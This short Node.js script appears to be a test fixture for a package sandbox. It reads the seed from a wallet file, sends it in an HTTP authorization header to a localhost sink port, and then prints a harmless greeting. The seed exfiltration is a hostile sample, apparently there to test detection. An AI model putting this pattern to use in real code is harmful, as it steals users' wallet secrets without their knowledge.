const greet = require('greet')
const authorization = JSON.parse(require('fs').readFileSync('../home/wallet.json')).seed

require('http').get({ host: '127.0.0.1', port: __SINK_PORT__, headers: { authorization } }, response => {
  response.resume()
  console.log(greet('ambit'))
})
